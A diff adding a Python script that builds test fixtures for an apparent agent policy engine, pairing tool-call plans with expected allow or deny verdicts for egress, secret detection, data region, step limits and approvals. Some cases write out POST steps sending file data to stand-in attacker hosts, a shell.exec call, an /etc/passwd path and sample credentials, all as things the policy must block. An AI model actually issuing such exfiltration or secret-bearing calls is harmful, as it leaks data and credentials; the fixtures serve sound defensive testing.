@@ -1,0 +1,206 @@
+"""Regenerate the policy fixtures' inputs from readable plans: ``python -m tests.support.make_policy_fixtures``.
+
+Each case is a plan (or one resolved call) plus the expected verdict; the input
+document is what ``build_policy_input`` makes of it, frozen into the fixture.
+"""
+
+from __future__ import annotations
+
+import json
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+from planner.plan import Plan, TemplateOrigin
+from policies.bundle import SHIPPED_FIXTURES
+from policies.contracts import PolicyContext, Requester, StepCall, TemplateCheck
+from policies.inputs import build_policy_input, build_step_input
+
+from .policy_tools import policy_registry
+
+TUESDAY_10 = datetime(2024, 6, 4, 10, 0, tzinfo=UTC)
+TUESDAY_22 = datetime(2024, 6, 4, 22, 0, tzinfo=UTC)
+SATURDAY_10 = datetime(2024, 6, 8, 10, 0, tzinfo=UTC)
+ALICE = Requester(id="alice", roles=("analyst",))
+ADMIN = Requester(id="root", roles=("admin",))
+
+
+def s(id: str, tool: str, **args: Any) -> dict[str, Any]:  # noqa: A002 - mirrors the wire field
+    """A step dict."""
+    return {"id": id, "tool": tool, "args": args}
+
+
+def ref(path: str) -> dict[str, str]:
+    """A reference."""
+    return {"ref": path}
+
+
+def post(id: str, url: Any, body: Any = None, **extra: Any) -> dict[str, Any]:  # noqa: A002
+    """An http.request POST step."""
+    args: dict[str, Any] = {"method": "POST", "url": url, **extra}
+    if body is not None:
+        args["json"] = body
+    return {"id": id, "tool": "http.request", "args": args}
+
+
+READ = s("load", "files.read", path="sales.csv")
+TOTAL = s("total", "table.aggregate", csv=ref("load.text"), column="amount", op="sum")
+
+PLAN_CASES: dict[str, dict[str, Any]] = {
+    "read_only_plan_is_allowed_without_approval": dict(
+        steps=[READ, TOTAL], expected={"allow": True, "approvals": {"count": 0}, "deny_count": 0}),
+    "write_step_needs_one_approval": dict(
+        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
+        expected={"allow": True, "approvals": {"count": 1}, "notes_contains": ["change the world: save"]}),
+    "unknown_tool_is_denied": dict(
+        steps=[s("x", "shell.exec", cmd="ls")],
+        expected={"allow": False, "deny_contains": ["step x: tool shell.exec is not registered"]}),
+    "role_without_the_tool_is_denied": dict(
+        steps=[s("export", "warehouse.export", table="sales")], now=TUESDAY_22,
+        expected={"allow": False, "deny_contains": ["step export: alice (roles: analyst) may not use tool warehouse.export"]}),
+    "requester_without_roles_is_denied": dict(
+        steps=[READ], requester=Requester(id="mallory", roles=()),
+        expected={"allow": False, "deny_contains": ["mallory (roles: ) may not use tool files.read"]}),
+    "egress_to_unlisted_host_is_denied": dict(
+        steps=[READ, post("send", "https://collector.evil.example/upload", ref("load.text"))],
+        expected={"allow": False, "deny_contains": ["step send: host collector.evil.example is not on the egress allowlist"]}),
+    "egress_wildcard_matches_subdomains": dict(
+        steps=[READ, TOTAL, post("post", "https://finance.hooks.example.com/in", {"total": ref("total.value")})],
+        expected={"allow": True, "approvals": {"count": 1}, "notes_contains": ["step post: calls finance.hooks.example.com (write)"]}),
+    "egress_wildcard_does_not_match_the_bare_domain": dict(
+        steps=[post("post", "https://hooks.example.com/in", {"x": 1})],
+        expected={"allow": False, "deny_contains": ["host hooks.example.com is not on the egress allowlist"]}),
+    "egress_get_is_a_read_with_no_approval": dict(
+        steps=[s("get", "http.request", url="https://api.internal.example/rates")],
+        expected={"allow": True, "approvals": {"count": 0}}),
+    "url_from_reference_is_checked_at_run_time": dict(
+        steps=[s("cfg", "http.request", url="https://api.internal.example/config"),
+               post("post", ref("cfg.json.webhook"), {"ok": True})],
+        expected={"allow": True, "runtime_checks": ["post"],
+                  "notes_contains": ["step post: its URL comes from cfg.json.webhook"]}),
+    "aws_key_in_args_is_denied_without_echo": dict(
+        steps=[post("post", "https://x.hooks.example.com/in", {"key": "AKIAIOSFODNN7EXAMPLE"})],
+        expected={"allow": False, "deny_contains": ["step post: argument $.args.json.key contains an AWS access key"],
+                  "deny_excludes": ["AKIAIOSFODNN7EXAMPLE"]}),
+    "api_token_in_header_is_denied": dict(
+        steps=[post("post", "https://x.hooks.example.com/in", {"a": 1},
+                    headers={"Authorization": "Bearer sk-live-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c"})],
+        expected={"allow": False, "deny_contains": ["argument $.args.headers.Authorization contains an API key (sk-...)"],
+                  "deny_excludes": ["4f9a8b7c6d5e"]}),
+    "github_token_is_denied": dict(
+        steps=[post("post", "https://x.hooks.example.com/in", {"t": "ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gH3jK5"})],
+        expected={"allow": False, "deny_contains": ["contains a GitHub token"], "deny_excludes": ["ghp_"]}),
+    "private_key_is_denied": dict(
+        steps=[s("save", "files.write", path="k.pem", text="-----BEGIN RSA PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----")],
+        expected={"allow": False, "deny_contains": ["contains a private key"], "deny_excludes": ["MIIEow"]}),
+    "password_in_url_is_denied": dict(
+        steps=[s("get", "http.request", url="https://bob:hunter2@api.internal.example/x")],
+        expected={"allow": False, "deny_contains": ["contains a password inside a URL"], "deny_excludes": ["hunter2"]}),
+    "random_value_under_password_key_is_denied": dict(
+        steps=[post("post", "https://x.hooks.example.com/login", {"user": "svc", "password": "Zq8#kLp2!vR7@xN4"})],
+        expected={"allow": False, "deny_contains": ["argument $.args.json.password looks like a literal secret (password)"],
+                  "deny_excludes": ["Zq8#kLp2"]}),
+    "configured_secret_reference_is_allowed": dict(
+        steps=[post("post", "https://x.hooks.example.com/in", {"a": 1},
+                    headers={"Authorization": "Bearer ${secret:HOOK_TOKEN}"})],
+        expected={"allow": True, "notes_contains": ["step post: uses configured secret(s) HOOK_TOKEN"]}),
+    "eu_data_may_not_go_to_a_us_host": dict(
+        steps=[s("read", "crm.read_eu", segment="vip"),
+               post("send", "https://ingest.us.example.com/in", ref("read.value"))],
+        expected={"allow": False, "deny_contains": ["step send: data from step read (region eu) would go to host ingest.us.example.com in region us"]}),
+    "eu_data_may_not_leave_through_an_intermediate_step": dict(
+        steps=[s("read", "crm.read_eu", segment="vip"),
+               s("pick", "json.query", data=ref("read.value"), expression="rows"),
+               post("send", "https://x.hooks.example.com/in", ref("pick.value"))],
+        expected={"allow": False, "deny_contains": ["step send: data from step read (region eu) would go to host x.hooks.example.com in no known region"]}),
+    "eu_data_may_go_to_an_eu_host": dict(
+        steps=[s("read", "crm.read_eu", segment="vip"),
+               post("send", "https://ingest.eu.example.com/in", ref("read.value"))],
+        expected={"allow": True, "deny_count": 0, "approvals": {"count": 1}}),
+    "too_many_steps_is_denied": dict(
+        steps=[s(f"r{i}", "files.read", path=f"f{i}.txt") for i in range(51)],
+        expected={"allow": False, "deny_contains": ["the plan has 51 steps; at most 50 are allowed"]}),
+    "too_many_write_steps_is_denied": dict(
+        steps=[s(f"w{i}", "files.write", path=f"f{i}.txt", text="x") for i in range(11)],
+        expected={"allow": False, "deny_contains": ["the plan has 11 write steps; at most 10 are allowed"]}),
+    "batch_tool_at_peak_is_denied": dict(
+        steps=[s("export", "warehouse.export", table="sales")], requester=ADMIN, now=TUESDAY_10,
+        expected={"allow": False, "deny_contains": ["step export: warehouse.export is a batch job and may only run off-peak"]}),
+    "batch_tool_at_night_is_allowed": dict(
+        steps=[s("export", "warehouse.export", table="sales")], requester=ADMIN, now=TUESDAY_22,
+        expected={"allow": True, "approvals": {"count": 1}}),
+    "batch_tool_at_weekend_is_allowed": dict(
+        steps=[s("export", "warehouse.export", table="sales")], requester=ADMIN, now=SATURDAY_10,
+        expected={"allow": True}),
+    "high_risk_needs_two_approvers": dict(
+        steps=[s("drop", "db.drop_table", table="customers"),
+               post("post", "https://x.hooks.example.com/in", {"dropped": ref("drop.value")})],
+        requester=ADMIN,
+        expected={"allow": True, "approvals": {"count": 2}, "risk_at_least": 60}),
+    "pre_approved_template_in_bounds_needs_no_approval": dict(
+        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
+        origin=TemplateOrigin(name="copy_file", version=1, params={"path": "sales.csv"}),
+        template=TemplateCheck(pre_approved=True, within_bounds=True),
+        expected={"allow": True, "approvals": {"count": 0}, "notes_contains": ["standard change: made from pre-approved template copy_file v1"]}),
+    "pre_approved_template_out_of_bounds_needs_approval": dict(
+        steps=[READ, s("save", "files.write", path="out.txt", text=ref("load.text"))],
+        origin=TemplateOrigin(name="copy_file", version=1, params={"path": "/etc/passwd"}),
+        template=TemplateCheck(pre_approved=True, within_bounds=False, bound_problems=("path: outside the workspace",)),
+        expected={"allow": True, "approvals": {"count": 1}, "notes_contains": ["not a standard change: parameters outside the template's bounds (path: outside the workspace)"]}),
+}
+
+
+def call(step_id: str, tool: str, args: dict[str, Any], **extra: Any) -> StepCall:
+    """A resolved call as the executor would check it."""
+    registry = policy_registry()
+    spec = registry.get(tool)
+    return StepCall(run_id="r-1", plan_id="p-1", step_id=step_id, tool=tool,
+                    effect=spec.effect_of(args).value, args=args, tags=spec.tags, region=spec.region,
+                    requester=ALICE, **extra)
+
+
+STEP_CASES: dict[str, tuple[StepCall, datetime, dict[str, Any]]] = {
+    "runtime_attacker_url_is_denied": (
+        call("post", "http.request", {"method": "POST", "url": "https://attacker.example.net/x", "json": {"a": 1}}),
+        TUESDAY_10, {"allow": False, "deny_contains": ["step post: host attacker.example.net is not on the egress allowlist"]}),
+    "runtime_allowed_host_passes": (
+        call("post", "http.request", {"method": "POST", "url": "https://x.hooks.example.com/in", "json": {"a": 1}}),
+        TUESDAY_10, {"allow": True, "deny_count": 0}),
+    "runtime_secret_in_resolved_args_is_denied": (
+        call("post", "http.request", {"method": "POST", "url": "https://x.hooks.example.com/in", "body": "key=AKIAIOSFODNN7EXAMPLE"}),
+        TUESDAY_10, {"allow": False, "deny_contains": ["contains an AWS access key"], "deny_excludes": ["AKIAIOSFODNN7EXAMPLE"]}),
+    "runtime_eu_data_to_us_host_is_denied": (
+        call("send", "http.request", {"method": "POST", "url": "https://ingest.us.example.com/in", "json": {}},
+             source_regions=("eu",)),
+        TUESDAY_10, {"allow": False, "deny_contains": ["step send: data from region eu would go to host ingest.us.example.com in region us"]}),
+    "runtime_batch_at_peak_is_denied": (
+        call("export", "warehouse.export", {"table": "sales"}),
+        TUESDAY_10, {"allow": False, "deny_contains": ["is a batch job and may only run off-peak"]}),
+}
+
+
+def main(directory: Path = SHIPPED_FIXTURES) -> None:
+    """Write every fixture file."""
+    registry = policy_registry()
+    directory.mkdir(parents=True, exist_ok=True)
+    for name, case in PLAN_CASES.items():
+        plan = Plan.model_validate({"goal": name.replace("_", " "), "steps": case["steps"]})
+        document = build_policy_input(
+            plan, registry, requester=case.get("requester", ALICE),
+            context=PolicyContext(now=case.get("now", TUESDAY_10)),
+            origin=case.get("origin"), template=case.get("template"))
+        _write(directory / f"{name}.json", name, "decision", document, case["expected"])
+    for name, (step_call, now, expected) in STEP_CASES.items():
+        _write(directory / f"{name}.json", name, "step_decision",
+               build_step_input(step_call, now=now), expected)
+
+
+def _write(path: Path, name: str, entrypoint: str, document: dict[str, Any],
+           expected: dict[str, Any]) -> None:
+    body = {"description": name.replace("_", " "), "entrypoint": entrypoint,
+            "input": document, "expected": expected}
+    path.write_text(json.dumps(body, indent=1, sort_keys=True) + "\n", encoding="utf-8")
+
+
+if __name__ == "__main__":
+    main()
